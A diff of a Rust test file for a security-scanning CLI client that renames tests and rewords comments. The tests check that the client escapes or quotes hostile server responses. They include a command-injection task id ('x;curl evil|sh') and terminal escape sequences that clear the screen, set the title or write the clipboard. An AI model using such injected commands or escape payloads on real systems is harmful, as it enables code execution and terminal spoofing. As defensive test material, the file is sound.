@@ -1,4 +1,4 @@
-//! Answers that no manual describes.
+//! Tests of responses that the manual does not describe.
 
 use serde_json::{Value, json};
 
@@ -11,7 +11,7 @@ fn hosts_of(body: &Value, arguments: &[&str]) -> Ran {
 }
 
 #[test]
-fn a_value_that_is_not_known_is_shown_as_it_came() {
+fn unknown_values_are_shown_unchanged() {
     let body = json!({"total_num": 3, "data_list": [
         {"host_name": "a", "scan_status": "success", "asset_value": "common"},
         {"host_name": "b", "scan_status": "canceled", "asset_value": "core",
@@ -26,7 +26,7 @@ fn a_value_that_is_not_known_is_shown_as_it_came() {
          b          -          -           core        canceled  container_vul: r\n\
          c          -          -           test        canceled  -\n"
     );
-    let said = "has values that this version does not know, shown as they came:";
+    let said = "has values that this version does not know, shown unchanged:";
     assert_eq!(
         table.stderr,
         format!(
@@ -40,7 +40,7 @@ fn a_value_that_is_not_known_is_shown_as_it_came() {
 }
 
 #[test]
-fn null_is_nothing() {
+fn null_is_shown_as_missing() {
     for host in [
         json!({"host_id": "h1", "host_name": null, "public_ip": "", "failed_reasons": null}),
         json!({"failed_reasons": [null]}),
@@ -65,21 +65,21 @@ fn null_is_nothing() {
 }
 
 #[test]
-fn rows_that_are_null_are_left_out_and_said_to_be() {
+fn null_rows_are_left_out_with_a_message() {
     let ran = hosts_of(&json!({"total_num": 3, "data_list": [null, {"host_id": "h"}, null]}), &["-o", "ndjson"]);
     assert_eq!(ran.printed(), "{\"host_id\":\"h\"}\n");
     assert_eq!(ran.stderr, "the service sent 2 empty rows among the servers; they are left out\n");
 }
 
 #[test]
-fn a_long_value_that_is_not_known_is_cut_in_the_warning() {
+fn long_unknown_values_are_truncated_in_warnings() {
     let host = json!({"host_name": "a", "scan_status": "x".repeat(1_000_000)});
     let ran = hosts_of(&json!({"total_num": 1, "data_list": [host]}), &["-o", "json"]);
     assert!(ran.stderr.len() < 300 && ran.stderr.contains("xxx…\""), "{} bytes", ran.stderr.len());
 }
 
 #[test]
-fn a_command_to_paste_runs_nothing_that_a_server_named() {
+fn suggested_commands_quote_ids_of_the_server() {
     let id = "x;curl evil|sh";
     let server = Canned::new([canned::json(200, &json!({"task_id": id}).to_string())]);
     let started = run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"]));
@@ -88,13 +88,13 @@ fn a_command_to_paste_runs_nothing_that_a_server_named() {
     let server = Canned::new([canned::json(200, &json!({"task_id": "--html=x y"}).to_string())]);
     let started = run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"]));
     assert_eq!(started.stderr, "started; follow it with: hss scan wait -- '--html=x y'\n");
-    // What is printed is what a command takes.
+    // A printed id can be passed to a command.
     let server = Canned::new([canned::json(200, r#"{"total_num":1,"data_list":[{"id":"-x","status":"finished"}]}"#)]);
     run(&mut hss_at(&server.url, &["scan", "wait", "--", "-x"])).printed();
 }
 
 #[test]
-fn ids_of_requests_are_cut_in_messages() {
+fn request_ids_are_truncated_in_messages() {
     let answer = |body: &Value| {
         let mut answer = canned::json(200, &body.to_string());
         answer.headers.insert("X-Request-Id".to_owned(), "r".repeat(60_000));
@@ -114,7 +114,7 @@ fn ids_of_requests_are_cut_in_messages() {
 }
 
 #[test]
-fn the_id_of_a_task_that_cannot_be_shown_is_refused_and_the_scan_is_said_to_have_started() {
+fn start_reports_a_started_scan_whose_id_cannot_be_displayed() {
     for (id, said) in [
         ("x".repeat(3_000_000), "the answer names a task by an id of 3000000 characters"),
         ("x".repeat(257), "the answer names a task by an id of 257 characters"),
@@ -141,7 +141,7 @@ fn the_id_of_a_task_that_cannot_be_shown_is_refused_and_the_scan_is_said_to_have
 }
 
 #[test]
-fn the_id_of_a_task_that_is_not_unicode_is_refused_and_the_scan_is_said_to_have_started() {
+fn start_reports_a_started_scan_whose_id_is_not_unicode() {
     for more in [&[][..], &["--wait"], &["-q", "-o", "json"]] {
         let server = Canned::new([canned::json(200, r#"{"task_id":"t\ud800"}"#)]);
         let ran = run(hss_at(&server.url, &["scan", "start", "--all-hosts"]).args(more));
@@ -151,7 +151,7 @@ fn the_id_of_a_task_that_is_not_unicode_is_refused_and_the_scan_is_said_to_have_
         assert!(ran.stderr.ends_with("). The scan has started: see hss scan list --max 5\n"), "{}", ran.stderr);
         assert_eq!(server.requests().len(), 1, "{more:?}");
     }
-    // What the service itself calls so is its name.
+    // If the service itself sends U+FFFD, it is part of the id.
     let server = Canned::new([canned::json(200, r#"{"task_id":"t\ufffd"}"#)]);
     assert_eq!(run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"])).printed(), "t\u{fffd}\n");
 }
@@ -179,7 +179,7 @@ fn ids_of_servers_that_are_not_unicode_are_not_sent() {
 }
 
 #[test]
-fn a_task_with_text_that_is_not_unicode_is_said_to_have_it() {
+fn replaced_text_of_a_task_is_reported() {
     let note = "the service sent text that is not valid Unicode: U+FFFD stands in its place\n";
     let task = r#"{"total_num":1,"data_list":[{"id":"t1","status":"finished","scan_type":"m\ud800"}]}"#;
     for arguments in [&["scan", "show", "t1"][..], &["scan", "wait", "t1"]] {
@@ -190,7 +190,7 @@ fn a_task_with_text_that_is_not_unicode_is_said_to_have_it() {
 }
 
 #[test]
-fn a_number_out_of_bounds_is_named_with_its_row_and_field() {
+fn an_out_of_range_number_error_names_row_and_field() {
     let body = r#"{"total_num":2,"data_list":[{"id":"t1"},{"id":"t2","failed_host_num":3000000000}]}"#;
     let server = Canned::new([canned::json(200, body)]);
     let ran = run(&mut hss_at(&server.url, &["scan", "list"]));
@@ -202,7 +202,7 @@ fn a_number_out_of_bounds_is_named_with_its_row_and_field() {
 }
 
 #[test]
-fn names_and_ids_are_cut_in_errors() {
+fn names_and_ids_are_truncated_in_errors() {
     let row = format!(r#"{{"host_name":"web-1","host_id":"{}"}}"#, "x".repeat(1_000_000));
     let body = format!(r#"{{"total_num":2,"data_list":[{row},{{"host_name":"web-1","host_id":"h2"}}]}}"#);
     let server = Canned::new([canned::json(200, &body)]);
@@ -220,7 +220,7 @@ fn a_name_that_is_not_unicode_does_not_fail_its_page() {
 }
 
 #[test]
-fn an_answer_of_hss_api_that_is_not_unicode_is_converted_and_passed_on_as_it_came() {
+fn api_repairs_invalid_unicode_only_when_converting() {
     let note = "the service sent text that is not valid Unicode: U+FFFD stands in its place\n";
     let body = r#"{"total_num":1,"data_list":[{"id":"a\ud800"}]}"#;
     for (arguments, printed, said) in [
@@ -236,7 +236,7 @@ fn an_answer_of_hss_api_that_is_not_unicode_is_converted_and_passed_on_as_it_cam
 }
 
 #[test]
-fn what_is_no_listing_is_not_a_listing_of_nothing() {
+fn a_response_that_is_not_a_listing_is_an_error() {
     for body in
         ["{}", "null", "[]", "\"\"", "", "<html>", r#"{"total_num":1}"#, r#"{"error_code":"HSS.0001","error_msg":"m"}"#]
     {
@@ -247,7 +247,8 @@ fn what_is_no_listing_is_not_a_listing_of_nothing() {
     }
 }
 
-/// Names that act on a terminal: clear it, set its title, write the clipboard, forge a row, reverse what follows.
+/// Names that a terminal would interpret: clear the screen, set the title, write the clipboard, forge a row, reverse
+/// the text.
 pub(crate) const ACTING: [&str; 8] = [
     "\u{1b}[2J\u{1b}[1;1Hfake",
     "\u{1b}]0;t\u{7}",
@@ -260,7 +261,7 @@ pub(crate) const ACTING: [&str; 8] = [
 ];
 
 #[test]
-fn what_a_terminal_would_act_on_is_escaped() {
+fn control_characters_in_rows_are_escaped() {
     let names: Vec<_> = ACTING.into_iter().chain(["生产-数据库-01"]).collect();
     let hosts: Vec<_> = names.iter().map(|name| json!({"host_name": name, "scan_status": "failed"})).collect();
     let body = json!({"total_num": names.len(), "data_list": hosts});
@@ -278,7 +279,7 @@ fn what_a_terminal_would_act_on_is_escaped() {
 }
 
 #[test]
-fn what_the_service_says_of_an_error_is_escaped() {
+fn control_characters_in_error_messages_are_escaped() {
     let body = json!({"error_code": "HSS.1\u{1b}[2J", "error_msg": "a\u{1b}]0;t\u{7}b"});
     let mut answer = canned::json(400, &body.to_string());
     answer.headers.insert("X-Request-Id".to_owned(), "r-1".to_owned());
@@ -291,7 +292,7 @@ fn what_the_service_says_of_an_error_is_escaped() {
 }
 
 #[test]
-fn a_later_page_that_fails_leaves_no_document() {
+fn a_failed_later_page_writes_no_document() {
     let page: Vec<_> = (0..10).map(|number| json!({"host_name": format!("h{number}")})).collect();
     let first = json!({"total_num": 30, "data_list": page}).to_string();
     let changed = json!({"total_num": 29, "data_list": page}).to_string();
@@ -319,7 +320,7 @@ fn a_later_page_that_fails_leaves_no_document() {
 }
 
 #[test]
-fn an_answer_that_would_take_much_memory_is_not_converted() {
+fn a_response_that_needs_much_memory_is_not_converted() {
     let body = format!("{{\"total_num\":1,\"data_list\":[{{\"k\":1}}{}]}}", ",{\"kkkkkkkkkk\":1}".repeat(70_000));
     let server = Canned::new([canned::json(200, &body), canned::json(200, &body)]);
     let call = ["api", "ListVulScanTaskHost", "--task_id", TASK];
@@ -331,7 +332,7 @@ fn an_answer_that_would_take_much_memory_is_not_converted() {
     );
     assert_eq!(run(hss_at(&server.url, &call).args(["-o", "json"])).printed().len(), body.len() + 1);
 
-    // Lists in lists take the most memory for their size.
+    // Nested lists take the most memory for their size.
     for (open, close, count) in [("[", "]", 1100), ("{\"a\":0,\"\":", "}", 600)] {
         let nested = format!("{}0{}", open.repeat(100), close.repeat(100));
         let nested = format!("[{}]", vec![nested; count].join(","));
@@ -361,7 +362,7 @@ fn a_page_with_long_causes_is_converted() {
 }
 
 #[test]
-fn an_answer_that_no_list_needs_is_not_read() {
+fn an_oversized_response_is_not_read() {
     let body = json!({"total_num": 1, "data_list": [{"host_name": "\u{7f}".repeat(5_000_000)}]});
     for more in [&["-o", "json"][..], &["--group-by", "cause"], &["--query", "@"]] {
         let ran = hosts_of(&body, more);
@@ -376,7 +377,7 @@ fn an_answer_that_no_list_needs_is_not_read() {
 }
 
 #[test]
-fn an_answer_of_iam_that_no_project_needs_is_not_read() {
+fn an_oversized_iam_response_is_not_read() {
     let body = json!({"projects": [{"id": "\u{7f}".repeat(2_000_000)}]}).to_string();
     let server = Canned::new([canned::json(200, &body)]);
     let mut command = hss(&["--endpoint", &server.url, "--iam-endpoint", &server.url, "--region", "cn-north-4"]);
